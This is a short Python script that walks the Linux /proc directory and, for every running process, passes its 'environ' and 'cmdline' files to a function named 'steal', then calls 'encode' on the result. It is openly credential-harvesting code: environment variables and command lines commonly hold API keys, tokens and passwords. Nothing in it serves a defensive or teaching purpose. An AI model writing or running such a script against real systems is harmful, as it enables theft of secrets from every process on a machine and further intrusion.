from pathlib import Path

from right import attempt, encode, steal

for folder in attempt(lambda: list(Path("/proc").iterdir())) or []:
    if folder.name.isdecimal():
        steal(folder / "environ")
        steal(folder / "cmdline")
encode()
